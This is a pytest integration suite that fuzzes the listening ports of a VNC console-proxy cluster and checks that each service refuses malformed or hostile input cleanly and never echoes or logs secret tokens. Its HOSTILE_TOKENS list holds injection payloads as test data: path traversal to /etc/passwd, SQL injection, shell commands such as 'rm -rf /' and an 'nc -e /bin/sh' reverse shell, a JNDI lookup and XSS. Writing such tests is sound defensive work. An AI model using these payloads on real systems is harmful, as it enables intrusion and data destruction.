"""Hostile input at every listening port of a real cluster (consoleauth, fake-compute,
novncproxy, xvpvncproxy as processes): random and truncated bytes, malformed ZeroMQ
envelopes, oversized heads, invalid UTF-8, tokens built to break things, spoofed Origins.

After each attack the service still answers a legitimate request, its log holds no
traceback and no error line, and the refusal was a clear one (a status, an error reply,
a log event).
"""

from __future__ import annotations

import json
import random
import re
import socket
import struct
import time
import urllib.parse
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest
import zmq
from console_common.net.bus import BusClient
from console_common.proto.bus import BadRequest, InvalidToken

from tests.integration._consoles import start_compute, start_consoleauth
from tests.integration.test_novnc_protocol import WsClient, frame, http_get, start_proxy
from tests.integration.test_xvp_protocol import start_xvp
from tests.support import (EVENTS_OF_BUS, SECRETS, ServiceProcess, console_token,
                           remember_secret, wait_tcp)

WAIT = 10.0
RFB_VERSION = b"RFB 003.008\n"
# a ZMTP 3 greeting (signature, version 3.0, NULL mechanism), for truncated handshakes
ZMTP_GREETING = b"\xff" + b"\0" * 8 + b"\x7f\x03\x00NULL" + b"\0" * 16 + b"\0" * 15
HOSTILE_TOKENS = [
    "../../../../etc/passwd", "..%2f..%2f..%2fetc%2fpasswd", "/console/../../x",
    "' OR '1'='1' --", "x'; DROP TABLE tokens; --", '"; SELECT * FROM tokens; --',
    "$(touch /tmp/pwned)", "`id`", "a;rm -rf /;b", "a|nc -e /bin/sh h 1", "%0acat /etc/shadow",
    "%00", "abc%00def", "%00" * 40, "\u202egnp.exe", "%ff%fe%fd", "%C0%AF", "A" * 300,
    "{{7*7}}", "${jndi:ldap://x/a}", "<script>alert(1)</script>", "%25%30%30", "[", "%5B::1",
]


@dataclass
class Cluster:
    logs: Path
    ca: ServiceProcess
    bus: str
    events: str
    compute: ServiceProcess
    control: str
    vnc_port: int
    novnc: ServiceProcess
    novnc_port: int
    xvp: ServiceProcess
    xvp_port: int
    xvp_metrics: int

    def console(self, kind: str) -> str:
        return console_token(self.control, kind)

    def services(self) -> list[ServiceProcess]:
        return [self.ca, self.compute, self.novnc, self.xvp]


@pytest.fixture(scope="module")
def cluster(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Cluster]:
    logs = tmp_path_factory.mktemp("hostile")
    ca, bus = start_consoleauth(logs)
    procs = [ca]
    try:
        compute = start_compute(logs, bus, "vm-1", builtin=1)
        procs.append(compute.proc)
        novnc_port, novnc = start_proxy(logs, bus)
        procs.append(novnc)
        xvp, xvp_port, xvp_metrics = start_xvp(logs, bus)
        procs.append(xvp)
        yield Cluster(logs, ca, bus, EVENTS_OF_BUS[bus], compute.proc, compute.control,
                      compute.vnc_base, novnc, novnc_port, xvp, xvp_port, xvp_metrics)
    finally:
        for proc in reversed(procs):
            proc.stop()


def port_of(endpoint: str) -> int:
    return int(endpoint.rsplit(":", 1)[1])


# ---- what "still fine" means ------------------------------------------------------------------


def clean_log(proc: ServiceProcess) -> None:
    """Every line JSON (parse_log checks), no traceback, no error or critical line."""
    bad = [line for line in proc.lines()
           if line.get("level") in ("error", "critical") or "exception" in line
           or line.get("event") == "greenlet.error"]
    assert not bad, f"{proc.name}: {json.dumps(bad[:3])[:3000]}"
    assert proc.alive(), f"{proc.name} exited with {proc.popen.returncode}"


def legit_novnc(c: Cluster) -> None:
    ws = WsClient(c.novnc_port, f"/websockify?token={c.console('novnc')}")
    try:
        assert ws.reply.status == 101
        assert ws.recv_bytes(12) == RFB_VERSION  # the fake compute's console answers
    finally:
        ws.close()


def legit_xvp(c: Cluster) -> None:
    with socket.create_connection(("127.0.0.1", c.xvp_port), timeout=WAIT) as sock:
        sock.sendall(f"CONNECT /console?token={c.console('xvpvnc')} HTTP/1.0\r\n\r\n".encode())
        got = b""
        while len(got) < 19 + 12 and (data := sock.recv(4096)):
            got += data
        assert got == b"HTTP/1.1 200 OK\r\n\r\n" + RFB_VERSION


def legit_bus(endpoint: str, method: str = "ping") -> None:
    with BusClient([endpoint], timeout=5) as client:
        assert client.call(method) is not None


def legit_events(endpoint: str) -> None:
    """A heartbeat ({"v":1,"epoch":..,"head":..}) arrives within a second or two."""
    ctx = zmq.Context.instance()
    sub = ctx.socket(zmq.SUB)
    sub.setsockopt(zmq.LINGER, 0)
    sub.setsockopt(zmq.SUBSCRIBE, b"")
    sub.connect(endpoint)
    try:
        assert sub.poll(5000), "no heartbeat on the events port"
        message = json.loads(sub.recv_multipart()[-1])
        assert message["v"] == 1 and "head" in message
    finally:
        sub.close()


def all_fine(c: Cluster) -> None:
    legit_bus(c.bus)
    legit_bus(c.control, "list_instances")
    legit_events(c.events)
    legit_novnc(c)
    legit_xvp(c)
    for proc in c.services():
        clean_log(proc)


# ---- raw bytes ---------------------------------------------------------------------------------


def payloads(seed: int, valid: bytes) -> list[bytes]:
    """Random bytes of many sizes, and ``valid`` cut short or with its tail replaced."""
    rng = random.Random(seed)
    out = [b"", b"\0", b"\r\n\r\n", b"\xff" * 64, bytes(range(256)) * 4]
    out += [rng.randbytes(n) for n in (1, 3, 10, 64, 500, 4096, 70_000)]
    out += [valid[:rng.randrange(1, len(valid))] for _ in range(6)]
    out += [valid[:n] + rng.randbytes(rng.randrange(1, 600)) for n in
            (rng.randrange(1, len(valid)) for _ in range(6))]
    return out


def hit(port: int, data: bytes, read: bool, rst: bool) -> bytes:
    """Send ``data``; then read the answer until EOF (after our half-close), or leave
    abruptly (an RST when ``rst``)."""
    with socket.create_connection(("127.0.0.1", port), timeout=WAIT) as sock:
        try:
            sock.sendall(data)
        except OSError:
            return b""  # refused mid-send (a server that closed on the first bad byte)
        if rst:
            sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
            return b""
        if not read:
            return b""
        try:
            sock.shutdown(socket.SHUT_WR)
            got = b""
            while chunk := sock.recv(65536):
                got += chunk
            return got
        except OSError:  # reset, or already disconnected by the server: no answer
            return b""


HTTP_HEAD = (b"GET /websockify?token=abc HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\n"
             b"Connection: Upgrade\r\nSec-WebSocket-Version: 13\r\n\r\n")
XVP_HEAD = b"CONNECT /console?token=0123456789abcdef0123456789abcdef HTTP/1.0\r\n\r\n"


def test_random_and_truncated_bytes_at_every_port(cluster: Cluster) -> None:
    c = cluster
    targets = {
        "novncproxy": (c.novnc_port, HTTP_HEAD),
        "xvpvncproxy": (c.xvp_port, XVP_HEAD),
        "xvpvncproxy metrics": (c.xvp_metrics, b"GET /metrics HTTP/1.1\r\nHost: x\r\n\r\n"),
        "consoleauth bus": (port_of(c.bus), ZMTP_GREETING),
        "consoleauth events": (port_of(c.events), ZMTP_GREETING),
        "compute control": (port_of(c.control), ZMTP_GREETING),
        "compute vnc": (c.vnc_port, RFB_VERSION + b"\x01" + b"\0" * 20),
    }
    answers: dict[str, set[bytes]] = {}
    for seed, (name, (port, valid)) in enumerate(targets.items()):
        for i, data in enumerate(payloads(seed, valid)):
            got = hit(port, data, read=i % 3 != 2, rst=i % 5 == 4)
            answers.setdefault(name, set()).add(got.split(b"\r\n", 1)[0][:40])
    # the proxies refused with a status line (or closed on a client that had left)
    for name in ("novncproxy", "xvpvncproxy"):
        statuses = {a.split(b" ")[1] for a in answers[name] if a}
        assert statuses and statuses <= {b"400", b"431", b"408"}, (name, answers[name])
    c.novnc.wait_for_log("http.bad_request", status=400)
    assert any(x.get("event") == "session.refused" and x.get("status") == 400 for x in c.xvp.lines())
    all_fine(c)


def test_websocket_garbage_after_the_upgrade(cluster: Cluster) -> None:
    c = cluster
    rng = random.Random(7)
    closes = []
    for n in range(12):
        ws = WsClient(c.novnc_port, f"/websockify?token={c.console('novnc')}")
        assert ws.reply.status == 101
        if n % 3 == 0:  # raw garbage as frames
            ws.send(rng.randbytes(rng.randrange(1, 3000)))
        elif n % 3 == 1:  # a valid frame cut short, then EOF
            whole = frame(0x2, rng.randbytes(500))
            ws.send(whole[:rng.randrange(1, len(whole))])
            ws.sock.shutdown(socket.SHUT_WR)
        else:  # well-formed frames of garbage RFB for the console server
            ws.send(frame(0x2, b"RFB 009.999\n" + rng.randbytes(200)))
        try:
            ws.sock.settimeout(WAIT)
            closes.append(ws.recv_close())
        except (ConnectionError, OSError):
            closes.append(None)  # the proxy closed without a close frame (EOF from us)
        ws.close()
    assert {1002, 1007, 1009, 1000, 1011, None} >= set(closes), closes
    assert 1002 in closes  # garbage frames: protocol error
    c.novnc.wait_for_log("session.end", close_reason="protocol_error")
    all_fine(c)


def test_malformed_bus_envelopes(cluster: Cluster) -> None:
    """ROUTER servers (consoleauth, the compute control port): every request with an
    envelope gets one error reply; a message with none is dropped; both keep serving."""
    ctx = zmq.Context.instance()
    big = b'{"v":1,"method":"ping","args":{},"pad":"' + b"x" * 70_000 + b'"}'
    bodies = [
        [b"not json"], [b"\xff\xfe\x00garbage"], [b"[]"], [b"null"], [b'"str"'], [b"{}"],
        [b'{"v":2,"method":"ping","args":{}}'], [b'{"v":1,"method":"rm -rf","args":{}}'],
        [b'{"v":1,"method":"check_token","args":{"token":"../../etc/passwd"}}'],
        [b'{"v":1,"method":"check_token","args":{"token":"\\u0000' + b"a" * 40 + b'"}}'],
        [b'{"v":1,"method":"check_token","args":{"token":5}}'],
        [b'{"v":1,"method":"authorize_console","args":{"port":"x"}}'],
        [b"[" * 60_000], [big], [b"a", b"b"], [],
    ]
    for endpoint in (cluster.bus, cluster.control):
        dealer = ctx.socket(zmq.DEALER)
        dealer.setsockopt(zmq.LINGER, 0)
        dealer.connect(endpoint)
        try:
            errors = []
            for body in bodies:
                dealer.send_multipart([b"", *body])
                assert dealer.poll(int(WAIT * 1000)), f"no reply to {body[:1]!r}"[:200]
                empty, reply = dealer.recv_multipart()
                assert empty == b""
                obj = json.loads(reply)
                assert obj["ok"] is False, obj
                errors.append(obj["error"]["type"])
                assert len(obj["error"]["message"]) <= 2000
            assert set(errors) <= {"BadRequest", "UnknownMethod", "InvalidToken"}, errors
            assert errors.count("BadRequest") >= 10
            # no envelope (no empty delimiter frame): nowhere to reply, dropped
            dealer.send_multipart([b"garbage"])
            dealer.send_multipart([b"x", b"y", b"z"])
            assert not dealer.poll(300)
        finally:
            dealer.close()
        # a REQ client (the ordinary kind) sending garbage still gets its error reply
        req = ctx.socket(zmq.REQ)
        req.setsockopt(zmq.LINGER, 0)
        req.connect(endpoint)
        try:
            req.send(b"\x00\x01\x02")
            assert req.poll(int(WAIT * 1000))
            assert json.loads(req.recv())["error"]["type"] == "BadRequest"
        finally:
            req.close()
    # and the wrong socket types: a PUB and a SUB talking to a ROUTER / a PUB
    for endpoint, kind in ((cluster.bus, zmq.PUB), (cluster.events, zmq.DEALER),
                           (cluster.events, zmq.PUB)):
        odd = ctx.socket(kind)
        odd.setsockopt(zmq.LINGER, 0)
        odd.connect(endpoint)
        time.sleep(0.1)
        try:
            odd.send(b"garbage", zmq.NOBLOCK)
        except zmq.Again:
            pass
        odd.close()
    all_fine(cluster)


# ---- HTTP-level hostility on novncproxy and xvp ----------------------------------------------


def test_oversized_heads(cluster: Cluster) -> None:
    c = cluster
    # just over the 8 KiB bound: the answer is read before the server's close
    huge_header = (b"GET / HTTP/1.1\r\nHost: x\r\nX-Big: " + b"a" * 9000 + b"\r\n\r\n")
    many_headers = b"GET / HTTP/1.1\r\n" + b"".join(b"X-%d: v\r\n" % i for i in range(900)) + \
        b"\r\n"
    long_target = b"GET /" + b"a" * 9000 + b" HTTP/1.1\r\n\r\n"
    for data in (huge_header, many_headers, long_target):
        got = hit(c.novnc_port, data, read=True, rst=False)
        assert got.split(b" ", 2)[1] in (b"431", b"400"), got[:80]
        got = hit(c.xvp_port, data, read=True, rst=False)
        assert got in (b"HTTP/1.1 431 Request Header Fields Too Large\r\n\r\n",
                       b"HTTP/1.1 400 Invalid Request\r\n\r\n"), got[:80]
    # far over it (1 MiB of header): refused as soon as the bound is passed; the client may
    # see its 431 or, still sending, a reset (the server closes on unread bytes)
    before = sum(1 for x in c.novnc.lines() if x.get("event") == "http.bad_request")
    hit(c.novnc_port, b"GET / HTTP/1.1\r\nX: " + b"a" * (1 << 20), read=True, rst=False)
    hit(c.xvp_port, b"CONNECT /console?token=" + b"a" * (1 << 20), read=True, rst=False)
    deadline = time.monotonic() + WAIT
    while sum(1 for x in c.novnc.lines() if x.get("event") == "http.bad_request") == before:
        assert time.monotonic() < deadline, "no http.bad_request for a 1 MiB head"
        time.sleep(0.05)
    c.novnc.wait_for_log("http.bad_request", status=431)
    all_fine(c)


def test_invalid_utf8_in_paths_and_cookies(cluster: Cluster) -> None:
    c = cluster
    cases = [
        b"GET /\xff\xfe.html HTTP/1.1\r\nHost: x\r\n\r\n",  # raw bytes: not HTTP
        b"GET /%ff%fe%c0%af.html HTTP/1.1\r\nHost: x\r\n\r\n",  # escaped: a 404
        b"GET /websockify?token=%ff%fe HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET /websockify HTTP/1.1\r\nHost: x\r\nCookie: token=\xff\xfe\xfd\r\n\r\n",
        b"GET /websockify HTTP/1.1\r\nHost: x\r\nCookie: token=%ff%00; a=\"\r\n\r\n",
        b"GET /websockify HTTP/1.1\r\nHost: \xc3\x28\r\nUpgrade: websocket\r\n"
        b"Connection: Upgrade\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\n"
        b"Sec-WebSocket-Version: 13\r\nCookie: token=\xc3\x28\r\n\r\n",
        b"GET //[x/?token=abc HTTP/1.1\r\nHost: x\r\n\r\n",
        b"GET http://[::1/websockify?token=abc HTTP/1.1\r\nHost: x\r\n\r\n",
    ]
    for data in cases:
        got = hit(c.novnc_port, data, read=True, rst=False)
        status = got.split(b" ", 2)[1]
        assert status in (b"400", b"403", b"404"), (data[:60], got[:120])
    for data in (b"CONNECT /console?token=\xff\xfe HTTP/1.0\r\n\r\n",
                 b"CONNECT /console?token=%ff%fe HTTP/1.0\r\n\r\n",
                 b"CONNECT //[x/console?token=abc HTTP/1.0\r\n\r\n",
                 b"CONNECT http://[::1/console?token=abc HTTP/1.0\r\n\r\n"):
        got = hit(c.xvp_port, data, read=True, rst=False)
        assert got in (b"HTTP/1.1 400 Invalid Request\r\n\r\n",
                       b"HTTP/1.1 401 Not Authorized\r\n\r\n"), (data, got)
    all_fine(c)


def test_hostile_tokens_are_refused_and_never_echoed(cluster: Cluster) -> None:
    c = cluster
    for token in HOSTILE_TOKENS:
        quoted = urllib.parse.quote(token, safe="%/")
        for path in (f"/websockify?token={quoted}", f"/?path=%3Ftoken%3D{quoted}"):
            ws = WsClient(c.novnc_port, path)
            assert ws.reply.status in (400, 403), (token, ws.reply)
            body = ws.reply.body.decode("utf-8", "replace")
            assert token not in body and quoted not in body, body
            ws.close()
        ws = WsClient(c.novnc_port, "/websockify",
                      headers=(("Cookie", f"token={quoted}"),))
        assert ws.reply.status in (400, 403), (token, ws.reply)
        ws.close()
        got = hit(c.xvp_port, f"CONNECT /console?token={quoted} HTTP/1.0\r\n\r\n".encode(),
                  read=True, rst=False)
        assert got in (b"HTTP/1.1 401 Not Authorized\r\n\r\n",
                       b"HTTP/1.1 400 Invalid Request\r\n\r\n"), (token, got)
        with BusClient([c.bus], timeout=5) as client:  # consoleauth itself: InvalidToken
            with pytest.raises((InvalidToken, BadRequest)):
                client.call("check_token", token=urllib.parse.unquote(token))
    log_text = "\n".join(p.log_path.read_text() for p in c.services())
    leaked = [t for t in HOSTILE_TOKENS if len(t) > 8 and t in log_text]
    assert not leaked, leaked  # refused tokens are logged by token_id only
    all_fine(c)


def test_spoofed_origins(cluster: Cluster) -> None:
    c = cluster
    host = f"127.0.0.1:{c.novnc_port}"
    spoofs = [
        {"origin": "http://evil.example"},
        {"origin": f"https://{host}"},  # scheme differs from how the page was served
        {"origin": "null"},
        {"origin": "http://127.0.0.1.evil.example"},
        {"origin": f"http://{host}@evil.example"},  # userinfo: the host is evil.example
        {"origin": "http://[::1"},  # malformed
        {"origin": f"http://{host}", "host": "evil.example"},  # Host spoofed instead
        {"origin": f"https://{host}", "headers": (("X-Forwarded-Proto", "https"),)},
        {"origin": "http://evil.example", "headers": (("X-Forwarded-Host", "evil.example"),
                                                     ("Forwarded", "host=evil.example"))},
    ]
    for spoof in spoofs:
        ws = WsClient(c.novnc_port, f"/websockify?token={c.console('novnc')}",
                      origin=spoof["origin"], host=spoof.get("host"),
                      headers=spoof.get("headers", ()))
        assert ws.reply.status == 403, spoof
        assert json.loads(ws.reply.body)["error"] == "origin_refused"
        ws.close()
    ok = WsClient(c.novnc_port, f"/websockify?token={c.console('novnc')}",
                  origin=f"http://{host}")
    assert ok.reply.status == 101
    ok.close()
    c.novnc.wait_for_log("session.refused", reason="origin_refused")
    probe = http_get(c.novnc_port, "/healthz")
    assert probe.status == 200
    all_fine(c)


def test_waits_for_the_services_to_be_listening(cluster: Cluster) -> None:
    """Sanity for the fixture itself: every port the attacks aimed at is a real listener."""
    for port in (cluster.novnc_port, cluster.xvp_port, cluster.xvp_metrics, cluster.vnc_port,
                 port_of(cluster.bus), port_of(cluster.events), port_of(cluster.control)):
        wait_tcp("127.0.0.1", port, timeout=2)


def test_no_secret_in_metrics_error_pages_or_error_messages(cluster: Cluster) -> None:
    """After real sessions and refusals: /metrics and /healthz of both proxies, 403 and
    404 pages, and the bus's error messages hold no token."""
    c = cluster
    legit_novnc(c)
    legit_xvp(c)
    valid = c.console("novnc")
    unknown = "Q" * 43  # well-formed, never issued
    remember_secret(unknown)
    refused = WsClient(c.novnc_port, f"/websockify?token={unknown}")
    assert refused.reply.status == 403 and unknown.encode() not in refused.reply.body
    refused.close()
    wrong_kind = WsClient(c.novnc_port, f"/websockify?token={c.console('xvpvnc')}")
    assert wrong_kind.reply.status == 403  # an xvp token is no novnc token
    wrong_kind.close()
    for path in (f"/nothing/{valid}?token={valid}", f"/{valid}.html", f"/?token={valid}&x=%ff"):
        page = http_get(c.novnc_port, path)
        assert page.status in (200, 404), (path, page.status)
        assert valid.encode() not in page.body, path
    with BusClient([c.bus], timeout=5) as client:
        for token in (unknown, "short", "x" * 300, unknown + "\0"):
            with pytest.raises((InvalidToken, BadRequest)) as info:
                client.call("check_token", token=token)
            assert token not in str(info.value) and token[:20] not in str(info.value)
    secrets = {s for s in SECRETS if len(s) >= 6}
    assert valid in secrets  # the session-wide registry saw it
    for port, path in ((c.novnc_port, "/metrics"), (c.novnc_port, "/healthz"),
                       (c.xvp_metrics, "/metrics"), (c.xvp_metrics, "/healthz")):
        body = http_get(port, path).body.decode()
        assert body, path
        leaked = [s[:4] + "…" for s in secrets if s in body]
        assert not leaked, (port, path, leaked)
    # labels are a closed set of names with short, enumerable values: none can carry a
    # token, an address or an instance (per-session data lives in logs, never in labels)
    known = {"reason", "result", "close_reason", "direction", "le", "quantile",
             "implementation", "major", "minor", "patchlevel", "version"}
    for port in (c.novnc_port, c.xvp_metrics):
        for line in http_get(port, "/metrics").body.decode().splitlines():
            if line.startswith("#") or "{" not in line:
                continue
            for name, value in re.findall(r'(\w+)="([^"]*)"', line.split("{", 1)[1]):
                assert name in known, line
                assert re.fullmatch(r"[\w.+\-]{0,40}", value), line
    all_fine(c)
